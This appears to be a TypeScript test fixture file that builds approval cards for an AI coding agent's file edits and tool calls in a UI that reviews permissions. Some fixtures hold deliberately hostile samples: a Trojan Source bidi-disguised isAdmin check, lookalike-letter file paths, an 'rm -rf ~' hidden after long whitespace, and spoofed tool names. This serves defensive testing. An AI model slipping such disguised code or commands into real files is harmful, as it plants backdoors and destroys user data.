import type {
  CallReach,
  Card,
  ChangeNote,
  ChangeView,
  DiffHunk,
  DiffLine,
  Fact,
  LadderStep,
  Rung,
  Shown,
} from '../../src/lib/protocol';
import { card } from './cards';
import { command, segment, shown } from './text';

/** A line of a file as the app would send it: blanks at its end are marked, and so is all that is hidden. */
export function lineOf(text: string): Shown {
  const blanks = / *$/.exec(text)?.[0].length ?? 0;
  if (blanks === 0) return shown(text);
  const { spans } = shown(text.slice(0, text.length - blanks));
  return { spans: [...spans, { kind: 'space', text: ' '.repeat(blanks) }] };
}

/** Lines written as `diff -u` writes them: with `+`, `-` or a blank in front. */
export function hunk(before: number, after: number, lines: string[]): DiffHunk {
  const kinds: Record<string, DiffLine['kind']> = { '+': 'added', '-': 'removed', ' ': 'context' };
  return {
    before,
    after,
    lines: lines.map((line) => ({ kind: kinds[line.charAt(0)] ?? 'context', text: lineOf(line.slice(1)) })),
  };
}

export function change(
  kind: ChangeView['change'],
  path: string,
  hunks: DiffHunk[],
  differs: Partial<ChangeView> = {},
): ChangeView {
  const count = (wanted: DiffLine['kind']) =>
    hunks.reduce((sum, { lines }) => sum + lines.filter((line) => line.kind === wanted).length, 0);
  return {
    change: kind,
    path: shown(path),
    added: count('added'),
    removed: count('removed'),
    hunks,
    complete: true,
    notes: [],
    ...differs,
  };
}

const HOME = '/home/mina/src/storefront';

/** The call of a tool that would do what `facts` say. */
export function call(id: string, now: number, words: string[], facts: Fact[], differs: Partial<Card> = {}): Card {
  const [name = ''] = words;
  return card(id, now, {
    kind: 'tool',
    via: 'tool',
    command: command([segment(words)]),
    facts: [
      { kind: 'tool', tool: shown(name), client: shown('claude-code 2.1') },
      ...facts,
      { kind: 'folder', path: shown(HOME) },
    ],
    why: {
      reason: 'ask-always',
      security: 'allowlist',
      ask: 'always',
      layer: 'agent',
      segments: [],
      entriesChecked: 0,
      trace: [],
    },
    decisions: ['allow-once', 'deny'],
    always: [],
    ...differs,
  });
}

/** The text that was shown. */
function written({ spans }: Shown): string {
  const char = (code: string) => String.fromCodePoint(Number.parseInt(code.slice(2), 16));
  return spans.map(({ kind, text }) => (kind === 'escape' ? char(text) : text)).join('');
}

function changed(id: string, now: number, tool: string, changes: ChangeView[], differs: Partial<Card> = {}): Card {
  const paths = changes.map(({ path }) => written(path));
  const facts = changes.map((one): Fact => ({ kind: 'change', change: one }));
  return call(id, now, [tool, ...paths], facts, differs);
}

const LOGIN = change('edit', `${HOME}/src/login.ts`, [
  hunk(12, 12, [
    ' export async function login(form: LoginForm): Promise<Session> {',
    '   const session = await api.post(routes.login, form);',
    "-  location.href = '/';",
    "+  const next = new URLSearchParams(location.search).get('next');",
    "+  location.href = next?.startsWith('/') ? next : '/';   ",
    '   return session;',
    ' }',
  ]),
  hunk(48, 49, [
    ' export function logout() {',
    '-\tvoid api.post(routes.logout);',
    '+\tawait api.post(routes.logout);',
    ' }',
  ]),
]);

const HOOK = change(
  'create',
  `${HOME}/.git/hooks/pre-commit`,
  [hunk(1, 1, ['+#!/bin/sh', '+exec npm run --silent lint'])],
  { notes: ['runs-by-itself', 'executable', 'no-final-newline'] },
);

const NOTES = change('delete', `${HOME}/docs/old notes.md`, [
  hunk(1, 1, ['-# Old notes', '-', '-Nothing left to say.']),
]);

/** A few lines of one file. */
export function edit(id: string, now: number, differs: Partial<Card> = {}): Card {
  return changed(id, now, 'edit_file', [LOGIN], differs);
}

/** The same, and what can be remembered of it: the file, files like it, the folder. */
export function editOffered(id: string, now: number, differs: Partial<Card> = {}): Card {
  const below = (folder: string, names?: string): CallReach =>
    names === undefined
      ? { kind: 'files', below: shown(folder) }
      : { kind: 'files', below: shown(folder), names: shown(names) };
  const calls = (rung: Rung, reach: CallReach): LadderStep => ({
    kind: 'calls',
    rung,
    calls: [reach],
    longest: 'always',
  });
  return edit(id, now, {
    decisions: ['allow-once', 'allow-always', 'deny'],
    session: shown('agent:main:main'),
    always: [
      calls('file', below(`${HOME}/src`, 'login.ts')),
      calls('kind', below(HOME, '*.ts')),
      calls('folder', below(HOME)),
    ],
    ...differs,
  });
}

/** A file with characters that nobody sees and letters of another script, in its path too. */
export function create(id: string, now: number): Card {
  const lines = [
    '+import { check } from "./\u0430ccess";',
    '+',
    '+export function isAdmin(user: User): boolean {',
    '+  if (user.role !== "user\u202e \u2066// Check if admin\u2069 \u2066") {',
    '+    return true;\u200b',
    '+  }',
    '+  return check(user);',
    '+}',
  ];
  return changed(id, now, 'write_file', [change('create', `${HOME}/src/\u0430dmin.ts`, [hunk(1, 1, lines)])]);
}

/** Every line of a file of `count` lines is replaced. */
export function overwrite(id: string, now: number, count = 5_000): Card {
  const line = (index: number, word: string) => `  "${word}-${index}": "${'value '.repeat(index % 9)}",`;
  const half = count / 2;
  const lines = [
    ...Array.from({ length: half }, (_, index) => `-${line(index, 'old')}`),
    ...Array.from({ length: half }, (_, index) => `+${line(index, 'new')}`),
  ];
  return changed(id, now, 'write_file', [change('overwrite', `${HOME}/locales/de.json`, [hunk(1, 1, lines)])]);
}

export function remove(id: string, now: number): Card {
  return changed(id, now, 'apply_patch', [NOTES]);
}

export function move(id: string, now: number): Card {
  const moved = change('move', `${HOME}/src/session/login.ts`, [], { from: shown(`${HOME}/src/login.ts`) });
  return changed(id, now, 'apply_patch', [moved]);
}

/** What is there is no text. */
export function binary(id: string, now: number): Card {
  const notes: ChangeNote[] = ['binary', 'hard-linked', 'line-endings'];
  const lines = ['+<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">', '+</svg>'];
  return changed(id, now, 'write_file', [
    change('overwrite', `${HOME}/assets/logo.png`, [hunk(1, 1, lines)], { notes }),
  ]);
}

/** More than can be shown. */
export function incomplete(id: string, now: number, differs: Partial<Card> = {}): Card {
  const part = change('overwrite', `${HOME}/data/dump.sql`, [hunk(1, 1, ['-CREATE TABLE a;', '+CREATE TABLE b;'])], {
    added: 91_204,
    removed: 90_118,
    complete: false,
  });
  return changed(id, now, 'write_file', [part], differs);
}

/** Three files in one patch. */
export function patch(id: string, now: number): Card {
  return changed(id, now, 'apply_patch', [LOGIN, HOOK, NOTES]);
}

/** A tool that is none of ours, through a hook of the agent. */
export function foreignTool(id: string, now: number, differs: Partial<Card> = {}): Card {
  const parameters = {
    channel: '#harbour-staff',
    text: 'The pier is closed on Thursday.\nUse dock 4.',
    mentions: ['@a.ferreira', '@j.lindqvist'],
    attachments: [{ path: `${HOME}/docs/pier.pdf`, title: 'Pl\u0430n' }],
    silent: false,
  };
  const text = shown(JSON.stringify(parameters, null, 2));
  return call(id, now, ['mcp__chat__post_message', 'to #harbour-staff'], [{ kind: 'arguments', text }], {
    via: 'hook',
    onExpiry: 'no-answer',
    why: {
      reason: 'peer-asks',
      security: 'allowlist',
      ask: 'on-miss',
      layer: 'built-in',
      segments: [],
      entriesChecked: 0,
      trace: [],
    },
    ...differs,
  });
}

/** What another program's pet server asks about. */
export function petQuestion(id: string, now: number, differs: Partial<Card> = {}): Card {
  const text = shown(JSON.stringify({ command: 'uname -a' }, null, 2));
  const { why } = foreignTool(id, now);
  return call(id, now, ['exec'], [], {
    via: 'pet',
    agent: shown('main'),
    gateway: shown('Goose on the desk'),
    host: { kind: 'remote', name: shown('Goose on the desk') },
    session: shown('agent:main:pet:goose:desk'),
    peer: undefined,
    facts: [
      { kind: 'tool', tool: shown('exec') },
      { kind: 'arguments', text },
    ],
    why,
    ...differs,
  });
}

/** A task that a program would be handed. */
export function handOver(id: string, now: number, differs: Partial<Card> = {}): Card {
  const text = shown(
    'Look through the open issues of storefront.\nFor each that is about log-in, write down how to see it happen.\n\nDo not change any file.\n',
  );
  return call(id, now, ['spawn', 'reviewer', '--read-only'], [{ kind: 'task', text, typed: false }], differs);
}

/** A command that the agent runs itself. */
export function permit(id: string, now: number, differs: Partial<Card> = {}): Card {
  return card(id, now, { kind: 'permit', via: 'hook', ...differs });
}

/** A line with a secret in it, and one far longer than any window. */
export function secretLines(id: string, now: number): Card {
  const first = hunk(3, 3, ['-TOKEN=', `+${'a'.repeat(2_000)} end-of-the-line`, ' LAST=1']);
  const [emptied] = first.lines;
  const secret = { kind: 'added' as const, text: shown('ghp_x81jQm2') };
  const lines = emptied ? [emptied, secret, ...first.lines.slice(1)] : first.lines;
  return changed(id, now, 'edit_file', [change('edit', `${HOME}/.env`, [{ ...first, lines }])]);
}

/** Files with long paths, and a tool and a client with hostile names. */
export function hostileTool(id: string, now: number): Card {
  const path = `${HOME}/${'very-long-folder-name-that-goes-on/'.repeat(12)}\u202e\u0430.ts`;
  const made = changed(id, now, 'write_file', [
    change('append', path, [hunk(9, 9, [' last', `+${' '.repeat(400)}rm -rf ~`, '+x\t \u00a0  '])], {
      notes: ['runs-by-itself', 'executable', 'line-endings', 'no-final-newline', 'hard-linked'],
    }),
    change('move', path, [], { from: shown(`${path}.bak`) }),
  ]);
  const tool: Fact = {
    kind: 'tool',
    tool: shown(`safe\u202e${'_tool'.repeat(30)}`),
    client: shown(`\u0430gent ${'client '.repeat(40)}`),
  };
  return { ...made, facts: [tool, ...made.facts.slice(1)] };
}
